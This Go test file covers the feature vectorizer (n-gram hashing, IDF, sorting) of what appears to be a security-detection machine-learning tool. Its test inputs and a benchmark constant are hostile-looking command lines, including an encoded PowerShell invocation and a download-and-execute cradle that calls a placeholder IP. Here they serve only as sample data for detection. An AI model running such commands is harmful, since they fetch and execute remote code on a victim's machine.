package features

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math"
	"math/rand/v2"
	"slices"
	"testing"

	"github.com/vigilsec/vigil/internal/ml/vec"
)

// countSchema produces raw unsigned counts so tests can reason about them.
func countSchema(charMin, charMax, wordMax int, wb bool) Schema {
	return Schema{
		Name: "t", Version: 1, HashBits: 20, CharMin: charMin, CharMax: charMax,
		CharWordBoundary: wb, WordMin: 1, WordMax: wordMax, Lowercase: true, MaxInputBytes: 1 << 10,
	}
}

func total(x vec.Sparse) float32 {
	var s float32
	for _, v := range x.Value {
		s += v
	}
	return s
}

func TestVectorizerCounts(t *testing.T) {
	tests := []struct {
		name   string
		schema Schema
		text   string
		want   float32 // total count of emitted n-grams
	}{
		// "ab cd" → 5 runes: 5 unigrams + 4 bigrams.
		{"char 1-2 over the whole text", countSchema(1, 2, 0, false), "ab cd", 9},
		// whitespace runs collapse, trailing space dropped: same as above.
		{"whitespace is collapsed", countSchema(1, 2, 0, false), "  ab \t\n cd  ", 9},
		// " ab " and " cd ": 4 unigrams + 3 bigrams each.
		{"char_wb pads each word", countSchema(1, 2, 0, true), "ab cd", 14},
		// " a " is shorter than 4 and is emitted once whole.
		{"char_wb short word once", countSchema(4, 5, 0, true), "a", 1},
		// tokens: cmd, exe, c, whoami → 4 unigrams + 3 bigrams.
		{"word 1-2 grams", Schema{Name: "t", HashBits: 20, WordMin: 1, WordMax: 2, MaxInputBytes: 64}, "cmd.exe /c whoami", 7},
		{"input is truncated", countSchema(1, 1, 0, false), "abcdefgh", 4},
	}
	tests[5].schema.MaxInputBytes = 4
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v, err := NewVectorizer(tc.schema, nil)
			if err != nil {
				t.Fatal(err)
			}
			if got := total(v.Transform(tc.text, vec.Sparse{})); got != tc.want {
				t.Errorf("total count = %v, want %v", got, tc.want)
			}
		})
	}
}

func TestVectorizerProperties(t *testing.T) {
	s := DefaultText("t")
	s.IDF = false
	v, err := NewVectorizer(s, nil)
	if err != nil {
		t.Fatal(err)
	}
	a := v.Transform("powershell -enc SQBFAFgA", vec.Sparse{})
	t.Run("output is sorted and in range", func(t *testing.T) {
		if !a.Valid(s.Dim()) || a.Len() == 0 {
			t.Fatalf("invalid vector %+v", a)
		}
	})
	t.Run("output has unit norm", func(t *testing.T) {
		if n := a.Norm(); math.Abs(n-1) > 1e-5 {
			t.Errorf("norm = %v", n)
		}
	})
	t.Run("case folding makes upper and lower equal", func(t *testing.T) {
		b := v.Transform("POWERSHELL -ENC sqbfafga", vec.Sparse{})
		if !slices.Equal(a.Index, b.Index) || !slices.Equal(a.Value, b.Value) {
			t.Error("vectors differ")
		}
	})
	t.Run("reusing dst gives the same result", func(t *testing.T) {
		dst := v.Transform("something else entirely", vec.Sparse{})
		b := v.Transform("powershell -enc SQBFAFgA", dst)
		if !slices.Equal(a.Index, b.Index) || !slices.Equal(a.Value, b.Value) {
			t.Error("vectors differ")
		}
	})
	t.Run("empty text gives an empty vector", func(t *testing.T) {
		if e := v.Transform(" \t ", vec.Sparse{}); e.Len() != 0 {
			t.Errorf("got %d entries", e.Len())
		}
	})
}

// TestVectorizerGolden pins the exact output of the default schema: a change
// here silently invalidates every trained model.
func TestVectorizerGolden(t *testing.T) {
	s := DefaultText("command-line")
	idf, err := FitIDF(s, []string{"cmd.exe /c whoami", "ls -la /tmp", "powershell -nop -w hidden -enc SQBFAFgA"})
	if err != nil {
		t.Fatal(err)
	}
	v, err := NewVectorizer(s, idf)
	if err != nil {
		t.Fatal(err)
	}
	x := v.Transform("cmd.exe /c powershell -enc ÄÖü  whoami", vec.Sparse{})
	h := sha256.New()
	for i, ix := range x.Index {
		fmt.Fprintf(h, "%d:%.6f\n", ix, x.Value[i])
	}
	checkGolden(t, "vector.golden", fmt.Sprintf("n=%d sha256=%s", x.Len(), hex.EncodeToString(h.Sum(nil))))
}

func TestSortBucketsGroupsBuckets(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	var s scratch
	for _, bits := range []int{4, 11, 18, 24} {
		for _, n := range []int{0, 5, 47, 48, 1000} {
			t.Run(fmt.Sprintf("bits=%d n=%d", bits, n), func(t *testing.T) {
				keys := make([]uint32, n)
				for i := range keys {
					keys[i] = pack(rng.Uint32N(1<<bits), rng.IntN(2) == 1)
				}
				want := slices.Clone(keys)
				slices.Sort(want)
				sortBuckets(keys, bits, &s)
				for i := range keys {
					if keys[i]>>1 != want[i]>>1 {
						t.Fatalf("entry %d: bucket %d, want %d", i, keys[i]>>1, want[i]>>1)
					}
				}
				got := slices.Clone(keys)
				slices.Sort(got)
				if !slices.Equal(got, want) {
					t.Fatal("entries lost or changed")
				}
			})
		}
	}
}

func TestFitIDF(t *testing.T) {
	s := Schema{Name: "t", HashBits: 16, WordMin: 1, WordMax: 1, MaxInputBytes: 100, IDF: true}
	docs := []string{"alpha beta", "alpha gamma", "alpha"}
	idf, err := FitIDF(s, docs)
	if err != nil {
		t.Fatal(err)
	}
	plain := s
	plain.IDF = false
	v, _ := NewVectorizer(plain, nil)
	ix := func(w string) uint32 { return v.Transform(w, vec.Sparse{}).Index[0] }
	tests := []struct {
		name string
		term string
		want float64
	}{
		{"term in every document weighs 1", "alpha", 1},
		{"term in one document", "beta", math.Log(4.0/2) + 1},
		{"unseen term gets the largest weight", "zeta", math.Log(4.0) + 1},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := float64(idf[ix(tc.term)]); math.Abs(got-tc.want) > 1e-6 {
				t.Errorf("idf(%s) = %v, want %v", tc.term, got, tc.want)
			}
		})
	}
}

func TestNewVectorizerChecksIDFLength(t *testing.T) {
	if _, err := NewVectorizer(DefaultText("x"), make([]float32, 3)); err == nil {
		t.Fatal("want error for short idf")
	}
}

// commandLine is a 200-byte realistic event for the benchmarks.
const commandLine = `powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1'); Invoke-Thing -Target C:\Users\Public\x.dll"`

func BenchmarkTransform200B(b *testing.B) {
	s := DefaultText("command-line")
	idf, _ := FitIDF(s, []string{commandLine})
	v, _ := NewVectorizer(s, idf)
	dst := v.Transform(commandLine, vec.Sparse{})
	b.SetBytes(int64(len(commandLine)))
	b.ReportAllocs()
	for b.Loop() {
		dst = v.Transform(commandLine, dst)
	}
}

func TestSublinear(t *testing.T) {
	for _, c := range []float32{1, -1, 2, -3, 63, 64, -500} {
		want := float32(1 + math.Log(math.Abs(float64(c))))
		if c < 0 {
			want = -want
		}
		if got := sublinear(c); math.Abs(float64(got-want)) > 1e-6 {
			t.Errorf("sublinear(%v) = %v, want %v", c, got, want)
		}
	}
}

func BenchmarkTransform200BNoIDF(b *testing.B) {
	s := DefaultText("command-line")
	s.IDF = false
	v, _ := NewVectorizer(s, nil)
	dst := v.Transform(commandLine, vec.Sparse{})
	b.SetBytes(int64(len(commandLine)))
	b.ReportAllocs()
	for b.Loop() {
		dst = v.Transform(commandLine, dst)
	}
}
